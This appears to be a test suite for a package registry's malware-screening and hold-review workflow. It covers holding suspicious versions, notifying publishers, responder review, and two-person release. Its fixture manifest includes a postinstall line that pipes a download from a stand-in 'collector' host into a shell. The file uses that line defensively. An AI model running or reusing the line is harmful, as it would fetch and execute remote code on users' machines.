// SPDX-License-Identifier: Apache-2.0
/** What screening holds: nobody ever sees it before a responder has looked. */
import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { after, before, test } from 'node:test'
import { parsePackageName, parseVersion } from '@holdfast/core'
import { decideHold, listHolds, setInstanceRoles } from '../../src/flow/index.ts'
import { operator } from '../../src/identity/index.ts'
import { publishDocument } from '../live.ts'
import { post } from '../web/site.ts'
import { openWorld, type Someone, type World } from '../world.ts'

/** As one of many stealers does it: nothing here is a sample's own. */
const stealer = {
  scripts: { postinstall: 'curl -fsS https://cdn.collector.example/a | sh' },
  description: 'secretly bad',
}

let world: World
let alice: Someone
let rae: Someone

before(async () => {
  world = await openWorld()
  alice = await world.someone('alice')
  rae = await world.someone('rae', ['responder'])
})

after(async () => {
  assert.deepEqual(world.errors, [])
  await world.check()
  await world.close()
})

const subject = (name: string, version: string) => ({
  name: parsePackageName(name),
  version: parseVersion(version),
})

async function putHeld(name: string, version: string) {
  const files = { 'README.md': '# read me if you dare' }
  const body = publishDocument(name, version, { manifest: stealer, files })
  const reply = await world.npm(`PUT /${name}`, { token: alice.token, body })
  assert.equal(reply.status, 201, reply.text)
  return reply
}

async function seen(name: string, version: string): Promise<string> {
  const paths = [
    `GET /npm/${name}`,
    `GET /npm/${name}/${version}`,
    `GET /npm/${name}/-/${name}-${version}.tgz`,
    `GET /npm/-/v1/search?text=secretly`,
    `GET /package/npm/${name}`,
  ]
  const texts: string[] = []
  for (const path of paths) {
    const { status, text } = await world.ask(path)
    if (status === 200) texts.push(text)
  }
  return texts.join('\n')
}

test('a stolen token publishes a stealer: it is held in the same moment, the publisher hears it, nobody sees it', async () => {
  await world.publish(alice, 'widget', '1.0.0')
  const stolen = await world.token(alice)
  const body = publishDocument('widget', '1.0.1', { manifest: stealer })
  const reply = await world.npm('PUT /widget', { token: stolen, body })
  assert.equal(reply.status, 201)
  assert.match(reply.headers.get('npm-notice') ?? '', /widget@1\.0\.1 is kept and held: screening found/)
  assert.equal((await world.npm('GET /widget/-/widget-1.0.1.tgz')).status, 403)
  const document = await world.document('widget')
  assert.deepEqual([Object.keys(document.versions), document['dist-tags'].latest], [['1.0.0'], '1.0.0'])
  assert.doesNotMatch(await seen('widget', '1.0.1'), /secretly|collector/)
  const again = await world.npm('PUT /widget', { token: stolen, body })
  assert.match(again.headers.get('npm-notice') ?? '', /held/)
})

test('a name that begins with a held version shows nothing of it; released, it is like any other', async () => {
  await putHeld('gizmo', '1.0.0')
  assert.doesNotMatch(await seen('gizmo', '1.0.0'), /secretly|dare|collector/)
  const holds = await listHolds(world.ports, operator)
  assert.deepEqual(
    holds.filter(each => each.package === 'gizmo').map(each => each.findings[0]?.file),
    ['package.json'],
  )
  await decideHold(world.ports, operator, 'release', subject('gizmo', '1.0.0'), 'it is our own installer')
  assert.equal((await world.npm('GET /gizmo/-/gizmo-1.0.0.tgz')).status, 200)
  const [letter] = (await world.ports.store.mail.listRecent(20)).filter(each =>
    each.subject.startsWith('gizmo@1.0.0'),
  )
  assert.equal(letter?.to, alice.email)
  assert.match(letter?.subject ?? '', /was released/)
  const document = await world.document('gizmo')
  assert.equal(document['dist-tags'].latest, '1.0.0')
  assert.match(document.readme, /dare/)
  assert.match((await world.npm('GET /-/v1/search?text=secretly')).text, /gizmo/)
})

test('a responder confirms on the page: the version is quarantined and has a case', async () => {
  await world.publish(alice, 'gadget', '1.0.0')
  await putHeld('gadget', '1.0.1')
  const { cookie } = await world.browse(rae)
  const list = await world.ask('GET /operate/holds', { headers: { cookie } })
  assert.match(list.text, /gadget@1\.0\.1/)
  const page = await world.ask('GET /operate/holds/gadget/1.0.1', { headers: { cookie } })
  assert.match(page.text, /package\.json:1/)
  assert.match(page.text, /collector\.example/)
  const stranger = await world.browse(alice)
  const closed = await world.ask('GET /operate/holds/gadget/1.0.1', { headers: { cookie: stranger.cookie } })
  assert.equal(closed.status, 404)
  await decideHold(world.ports, operator, 'confirm', subject('gadget', '1.0.1'), 'steals tokens')
  const letters = (await world.ports.store.mail.listRecent(20)).filter(each => each.to === alice.email)
  assert.ok(letters.some(each => each.subject.startsWith('gadget@1.0.1 stays closed')))
  const refused = await world.npm('GET /gadget/-/gadget-1.0.1.tgz')
  assert.match(refused.text, /quarantined/)
  const [made] = await world.ports.store.incident.listCases(Number.MAX_SAFE_INTEGER, 1)
  assert.deepEqual([made?.kind, made?.title], ['malware', 'gadget is malware'])
  await assert.rejects(
    decideHold(world.ports, operator, 'release', subject('gadget', '1.0.1'), ''),
    /not|no such/i,
  )
})

test('whoever may publish it does not release it: one account alone shall not do both', async () => {
  await putHeld('gimlet', '1.0.0')
  await setInstanceRoles(world.ports, operator, 'alice', ['responder'])
  const own = await world.browse(alice)
  const answer = { answer: 'release', words: 'mine' }
  const path = '/operate/holds/gimlet/1.0.0'
  const refused = await post(world, path, answer, own)
  assert.equal(refused.status, 403)
  assert.match(refused.text, /A second person has to say so: you published gimlet, or may/)
  assert.equal((await world.npm('GET /gimlet/-/gimlet-1.0.0.tgz')).status, 403)
  assert.equal((await post(world, path, answer, await world.browse(rae))).status, 303)
  assert.equal((await world.npm('GET /gimlet/-/gimlet-1.0.0.tgz')).status, 200)
  await setInstanceRoles(world.ports, operator, 'alice', [])
})

test('of a tarball that is too large to be whole in memory what an install runs is screened all the same', {
  timeout: 120_000,
}, async () => {
  const noise = randomBytes(50 * 1024 * 1024)
  const put = async (name: string, wishes: object) => {
    const body = publishDocument(name, '1.0.0', { files: { 'noise.bin': noise }, ...wishes })
    const reply = await world.npm(`PUT /${name}`, { token: alice.token, body })
    assert.equal(reply.status, 201, reply.text)
    const { name: pkg, version } = subject(name, '1.0.0')
    return world.ports.store.screening.find(pkg, version)
  }
  const harmless = await put('heavy', {})
  assert.deepEqual([harmless?.state, harmless?.hold, harmless?.fault], ['allow', 'none', ''])
  assert.deepEqual(
    harmless?.findings.map(each => each.rule),
    ['partly-read'],
  )
  const bad = await put('heavy-bad', { manifest: stealer })
  assert.deepEqual([bad?.state, bad?.hold], ['hold', 'open'])
})
